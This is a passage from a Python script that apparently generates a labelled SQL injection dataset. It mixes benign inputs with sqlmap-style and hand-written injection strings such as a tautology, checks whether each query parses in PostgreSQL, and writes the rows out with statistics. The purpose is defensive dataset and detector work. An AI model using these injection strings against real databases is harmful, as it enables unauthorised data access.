                k = 2 if (kind == "estr" or fam in doubled) else 1
                for v in R.sample(BENIGN[fam], min(k, len(BENIGN[fam]))):
                    benign_row(t, slot, v, fam, f"benign:{fam}")
            for _ in range(4 if len(slots) == 1 else 3):
                if R.random() < 0.5:
                    tech = R.choice(["time", "boolean", "error", "stacked", "union"])
                    vec = union_vector("PostgreSQL") if tech == "union" else pick_sqlmap(tech)[3]
                    raw = sqlmap_attack(t, slot, "str", tech, "PostgreSQL", vec) or "x' OR 'x'='x"
                else:
                    fam = R.choice(sorted(HAND))
                    raw = R.choice(["a' ", "root' ", "')) ", "7' ", "%' ", "'"]) + R.choice(HAND[fam]) + R.choice(["--", " -- -", "", "#"])
                benign_row(t, slot, raw, "escaped_attack_string", "escaped")
    complex_rows()


def multi_statement(sql):
    toks = [t for t in lex(sql) if t[0] not in ("ws", "comment")]
    for k, (kind, a, b) in enumerate(toks):
        if kind == "punct" and sql[a:b] == ";" and k + 1 < len(toks):
            return True
    return False


# ---------------------------------------------------------------------------
# PostgreSQL parse check
# ---------------------------------------------------------------------------
def pg_parses(port, sql):
    p = subprocess.run(["/usr/lib/postgresql/15/bin/psql", "-X", "-q", "-h", "/tmp", "-p", str(port), "-U", "postgres", "-d", "postgres",
                        "-v", "VERBOSITY=verbose", "-c", "SELECT 1/0;\n" + sql],
                       capture_output=True, text=True, timeout=30)
    err = p.stderr
    if "22012" in err:
        return True
    if "ERROR" in err:
        return False
    raise SystemExit(f"unexpected psql result for {sql!r}: {p.stdout} {err}")


def previous_parses():
    if not os.path.exists(OUT):
        return {}
    got = {}
    with gzip.open(OUT, "rt", encoding="utf-8") as f:
        for line in f:
            r = json.loads(line)
            if "parses" in r:
                got[r["sql"]] = r["parses"]
    return got


if __name__ == "__main__":
    main()
    port = None
    if "--pg-port" in sys.argv:
        port = int(sys.argv[sys.argv.index("--pg-port") + 1])
    known = {} if port else previous_parses()
    for i, r in enumerate(ROWS):
        r["id"] = f"sixth-{i:05d}"
        r["multi_statement"] = multi_statement(r["sql"])
        if port:
            r["parses"] = pg_parses(port, r["sql"])
        elif r["sql"] in known:
            r["parses"] = known[r["sql"]]
    keys = ("id", "sql", "label", "family", "template", "input", "inputs", "variant", "parses", "multi_statement")
    if "--dry-run" not in sys.argv:
        with gzip.GzipFile(OUT, "wb", mtime=0) as raw, io.TextIOWrapper(raw, encoding="utf-8") as f:
            for r in ROWS:
                f.write(json.dumps({k: r[k] for k in keys if k in r}, ensure_ascii=False) + "\n")
    c = collections.Counter((r["label"], r["family"]) for r in ROWS)
    for k in sorted(c):
        print(k[0], k[1], c[k])
    print("total", len(ROWS), "attacks", sum(r["label"] == "attack" for r in ROWS),
          "sqlmap", sum(r["family"].startswith("sqlmap_") for r in ROWS))
    if SKIPPED_OTHER:
        print("skipped (text occurs in another corpus):", dict(SKIPPED_OTHER))
    if any("parses" in r for r in ROWS):
        pc = collections.Counter((r["label"], r.get("parses")) for r in ROWS)
        print("parses", dict(sorted(pc.items(), key=str)))
